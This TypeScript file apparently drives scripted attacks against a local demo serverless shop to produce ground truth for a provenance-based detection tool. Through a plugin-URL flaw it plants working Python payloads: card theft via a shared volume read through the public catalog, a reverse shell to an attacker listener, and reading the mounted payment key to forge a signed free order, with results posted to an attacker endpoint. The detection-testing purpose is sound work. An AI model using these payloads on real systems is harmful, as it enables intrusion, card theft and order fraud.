/**
 * Attacks b, c and e against the running shop, each through authorize-cc's flaw (a request may
 * name a "card-network plugin" URL, downloaded into its code folder and run by every invocation):
 * b. exfiltration through the shared F3 volume: the plugin stashes customers' cards as a "product"
 *    on the catalog's volume, and the public catalog listing serves them to the attacker;
 * c. a reverse shell: the plugin connects to the attacker's listener and runs /bin/sh on it;
 * e. a mounted secret used through the gateway: the plugin reads the shop's key (mounted for
 *    authorize-cc, which reads it only at start) and signs a forged free order that publish takes.
 * Benign traffic runs alongside. Each returns its ground truth; the plugin and what it left are
 * removed afterwards.
 */
import { join } from 'node:path';
import { rmSync } from 'node:fs';
import { FunctionsErrors } from '../errors.js';
import { attackerListener, attackerWeb, removePlugin, runningShop, shopCall, type BenignTraffic } from './demo-shop.js';
import type { ShopTruth } from './demo-truth.js';

const VICTIM_CARD = '4111111111111111';
const SECRET = '/var/openfaas/secrets/payment-key';

/** b: cards staged on the shared volume by authorize-cc, read out through catalog. */
export async function attackB(stackFile: string, log: (s: string) => void, benign: BenignTraffic): Promise<ShopTruth> {
  const shop = runningShop(stackFile);
  const { tag, gateway } = shop;
  const plugin = `stash-${tag}.py`;
  const stashName = `zz-${tag}.json`;
  const stash = join(shop.catalogDir, stashName);
  const code = [
    'import json',
    'def on_authorize(req):',
    `    with open(${JSON.stringify(stash)}, 'w') as f:`,
    `        json.dump({'id': 'zz-${tag}', 'name': 'cache', 'card': req.get('card')}, f)`,
    '',
  ].join('\n');
  const web = await attackerWeb(shop.host, () => ({ [`/${plugin}`]: code }));
  try {
    log('benign traffic: purchases and catalog updates');
    const before = await benign(gateway, []);
    log(`attack (b): an exploited authorize-cc fetches a plugin from ${shop.host}:${web.port} that stashes cards on the catalog's shared volume`);
    const [plant, during] = await Promise.all([
      shopCall('b', gateway, 'authorize-cc', { card: '4000000000000002', product: 'mug', network_plugin_url: `http://${shop.host}:${web.port}/${plugin}` }, `attack-b-plant-${tag}`),
      benign(gateway, ['authorize-cc']),
    ]);
    log('attack (b): a customer pays; the plugin stashes the card');
    const victim = await shopCall('b', gateway, 'authorize-cc', { card: VICTIM_CARD, product: 'tee' }, `attack-b-victim-${tag}`);
    log('attack (b): the attacker reads the public catalog');
    const [read, after] = await Promise.all([shopCall('b', gateway, 'catalog', undefined, `attack-b-read-${tag}`, 'GET'), benign(gateway, ['catalog', 'authorize-cc'])]);
    if (!read.body.includes(VICTIM_CARD)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('b', 'the catalog listing did not carry the card');
    log(`the attacker read the card ${VICTIM_CARD} in the catalog listing`);
    return {
      attack: 'b', function: 'catalog', alerted: read.callId, rules: ['volume-flow-between-functions'], views: ['backward'],
      invocations: { plant: plant.callId, victim: victim.callId, reader: read.callId },
      files: { plugin: { path: join(shop.pluginsDir, plugin), written: true }, stash: { path: `/${stashName}`, volume: 'catalog', written: true, by: 'victim' } },
      endpoints: { attacker: { address: shop.host, port: web.port } },
      processes: {},
      edges: [
        ['USED', 'plant', 'attacker'], ['WAS_GENERATED_BY', 'plugin', 'plant'], ['USED', 'victim', 'plugin'],
        ['WAS_GENERATED_BY', 'stash', 'victim'], ['USED', 'reader', 'stash'],
      ],
      benign: [...before, ...during, ...after],
      got: `card ${VICTIM_CARD} in the catalog listing`,
    };
  } finally {
    removePlugin(join(shop.pluginsDir, plugin));
    rmSync(stash, { force: true });
    await web.close();
  }
}

/** c: a reverse shell from an authorize-cc invocation to the attacker's listener. */
export async function attackC(stackFile: string, log: (s: string) => void, benign: BenignTraffic): Promise<ShopTruth> {
  const shop = runningShop(stackFile);
  const { tag, gateway } = shop;
  const plugin = `diag-${tag}.py`;
  const listener = await attackerListener(shop.host, 'id\ncat /etc/hostname\nexit\n');
  const code = (port: number) => [
    'import socket, subprocess, urllib.request',
    'def on_authorize(req):',
    `    s = socket.create_connection((${JSON.stringify(shop.host)}, ${listener.port}), timeout=10)`,
    "    p = subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
    '    p.wait(timeout=20)',
    '    s.close()',
    `    urllib.request.urlopen('http://${shop.host}:${port}/pid', data=str(p.pid).encode(), timeout=5).read()`,
    '',
  ].join('\n');
  const web = await attackerWeb(shop.host, (port) => ({ [`/${plugin}`]: code(port) }));
  try {
    log('benign traffic: purchases and catalog updates');
    const before = await benign(gateway, []);
    log(`attack (c): an exploited authorize-cc opens a shell to the attacker's listener at ${shop.host}:${listener.port}`);
    const [plant, during] = await Promise.all([
      shopCall('c', gateway, 'authorize-cc', { card: '4000000000000002', product: 'mug', network_plugin_url: `http://${shop.host}:${web.port}/${plugin}` }, `attack-c-shell-${tag}`),
      benign(gateway, ['authorize-cc']),
    ]);
    await Promise.race([listener.done, new Promise((r) => setTimeout(r, 5000))]);
    if (!/uid=\d+/.test(listener.received())) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('c', `the shell did not answer (got ${JSON.stringify(listener.received().slice(0, 200))})`);
    log(`the attacker's shell ran id: ${/uid=\S+/.exec(listener.received())![0]}`);
    const pid = Number(web.posted.find((p) => /^\d+$/.test(p)));
    if (!Number.isInteger(pid)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('c', 'the plugin did not report the shell\'s pid');
    return {
      attack: 'c', function: 'authorize-cc', alerted: plant.callId, rules: ['shell-in-function'], views: ['backward', 'forward'],
      invocations: { plant: plant.callId },
      files: { plugin: { path: join(shop.pluginsDir, plugin), written: true } },
      endpoints: { attacker: { address: shop.host, port: web.port }, listener: { address: shop.host, port: listener.port } },
      processes: { shell: { exe: ['sh', 'dash'], under: 'plant', pid } },
      edges: [
        ['USED', 'plant', 'attacker'], ['WAS_GENERATED_BY', 'plugin', 'plant'], ['USED', 'plant', 'plugin'],
        ['USED', 'plant', 'listener'], ['WAS_GENERATED_BY', 'listener', 'shell'],
      ],
      benign: [...before, ...during],
      got: `a shell: ${/uid=\S+/.exec(listener.received())![0]}`,
    };
  } finally {
    removePlugin(join(shop.pluginsDir, plugin));
    await web.close();
    await listener.close();
  }
}

/** e: the shop key read inside an authorize-cc invocation, then used to sign a forged order that publish takes. */
export async function attackE(stackFile: string, log: (s: string) => void, benign: BenignTraffic): Promise<ShopTruth> {
  const shop = runningShop(stackFile);
  const { tag, gateway } = shop;
  const plugin = `refund-${tag}.py`;
  const code = (port: number) => [
    'import hashlib, hmac, json, os, time, urllib.error, urllib.request',
    'def on_authorize(req):',
    `    key = open(${JSON.stringify(SECRET)}).read().strip()`,
    `    order = {'product': 'tee', 'price': 0, 'authorization': 'free-${tag}'}`,
    "    msg = '%s|%s|%s' % (order['product'], order['price'], order['authorization'])",
    "    order['signature'] = hmac.new(key.encode(), msg.encode(), hashlib.sha256).hexdigest()",
    "    for attempt in range(10):  # publish may be busy with an order (one request at a time)",
    '        try:',
    "            r = urllib.request.urlopen(urllib.request.Request(os.environ['gateway_url'] + '/function/publish', data=json.dumps(order).encode(), headers={'content-type': 'application/json'}), timeout=10)",
    '            break',
    '        except urllib.error.HTTPError as e:',
    '            if e.code != 429: raise',
    '            time.sleep(0.3)',
    "    got = json.dumps({'publish': r.headers.get('x-call-id'), 'answer': r.read().decode()}).encode()",
    `    urllib.request.urlopen('http://${shop.host}:${port}/collect', data=got, timeout=5).read()`,
    '',
  ].join('\n');
  const web = await attackerWeb(shop.host, (port) => ({ [`/${plugin}`]: code(port) }));
  try {
    log('benign traffic: purchases and catalog updates');
    const before = await benign(gateway, []);
    log(`attack (e): an exploited authorize-cc reads the shop key it has mounted and signs a free order for publish`);
    const [plant, during] = await Promise.all([
      shopCall('e', gateway, 'authorize-cc', { card: '4000000000000002', product: 'mug', network_plugin_url: `http://${shop.host}:${web.port}/${plugin}` }, `attack-e-key-${tag}`),
      benign(gateway, ['authorize-cc', 'publish']),
    ]);
    const got = web.posted.map((p) => { try { return JSON.parse(p) as { publish?: string; answer?: string }; } catch { return {}; } }).find((p) => p.publish);
    if (!got?.publish || !String(got.answer).includes('"published":true')) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('e', `publish did not take the forged order (got ${JSON.stringify(web.posted).slice(0, 200)})`);
    log(`publish took the forged order (its invocation ${got.publish})`);
    return {
      attack: 'e', function: 'authorize-cc', alerted: plant.callId, rules: ['secret-read'], views: ['backward', 'forward'],
      invocations: { exploit: plant.callId, forged: got.publish },
      files: {
        plugin: { path: join(shop.pluginsDir, plugin), written: true },
        secret: { path: SECRET, written: false },
        events: { path: join(shop.stackDir, 'data', 'events.log'), written: true, by: 'forged' },
      },
      endpoints: { attacker: { address: shop.host, port: web.port } },
      processes: {},
      edges: [
        ['USED', 'exploit', 'attacker'], ['WAS_GENERATED_BY', 'plugin', 'exploit'], ['USED', 'exploit', 'secret'],
        ['WAS_INFORMED_BY', 'forged', 'exploit'], ['WAS_GENERATED_BY', 'events', 'forged'],
      ],
      benign: [...before, ...during],
      got: `a free order published by invocation ${got.publish}`,
    };
  } finally {
    removePlugin(join(shop.pluginsDir, plugin));
    await web.close();
  }
}
